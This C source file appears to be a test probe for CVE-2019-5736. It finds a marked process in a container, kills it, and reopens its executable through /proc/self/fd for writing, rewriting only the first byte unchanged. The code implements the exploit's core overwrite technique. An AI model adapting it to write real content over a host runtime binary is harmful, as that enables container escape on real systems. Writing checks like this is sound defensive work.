/* overwrite_exe MARKER: CVE-2019-5736. Finds the process in the container whose command line
 * has the argument MARKER (a mini-container binary run inside the container, as an image whose
 * command is /proc/self/exe, or a `#!/proc/self/exe` script, makes of `run` or `exec`), opens
 * its /proc/PID/exe for reading, kills it (a binary that runs cannot be opened for writing:
 * ETXTBSY), then reopens that file for writing through /proc/self/fd and writes its first byte
 * again (0x7f, the ELF magic's: the content stays as it was). Reports the first refusal, or ok
 * when the binary could have been overwritten. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include "report.h"

static void pause_briefly(void)
{
    struct timespec ten_ms = {0, 10 * 1000 * 1000};
    nanosleep(&ten_ms, NULL);
}

/* True when /proc/PID/cmdline has an argument equal to MARKER. */
static int has_argument(const char *pid, const char *marker)
{
    char path[64], args[4096];
    snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, args, sizeof args - 1);
    close(fd);
    for (ssize_t at = 0; at < n; at += strlen(args + at) + 1) {
        args[n] = 0;
        if (!strcmp(args + at, marker))
            return 1;
    }
    return 0;
}

/* The pid of the other process with MARKER among its arguments; waits up to 10 s for it. */
static pid_t find_victim(const char *marker)
{
    for (int tries = 0; tries < 1000; tries++) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            pid_t pid = atoi(entry->d_name);
            if (pid > 0 && pid != getpid() && has_argument(entry->d_name, marker)) {
                closedir(proc);
                return pid;
            }
        }
        if (proc)
            closedir(proc);
        pause_briefly();
    }
    return -1;
}

int main(int argc, char **argv)
{
    if (argc != 2)
        return usage("MARKER");
    pid_t victim = find_victim(argv[1]);
    if (victim < 0) {
        errno = ESRCH;
        return report(-1);
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", victim);
    int exe = open(path, O_RDONLY | O_CLOEXEC);
    if (exe < 0)
        return report(-1);
    if (kill(victim, SIGKILL) < 0)
        return report(-1);
    /* Writable once the victim's memory is gone, if ever: up to 10 s. */
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    int writable = -1;
    for (int tries = 0; tries < 1000; tries++) {
        writable = open(path, O_WRONLY | O_CLOEXEC);
        if (writable >= 0 || errno != ETXTBSY)
            break;
        pause_briefly();
    }
    if (writable < 0)
        return report(-1);
    return report(pwrite(writable, "\177", 1, 0) == 1 ? 0 : -1);
}
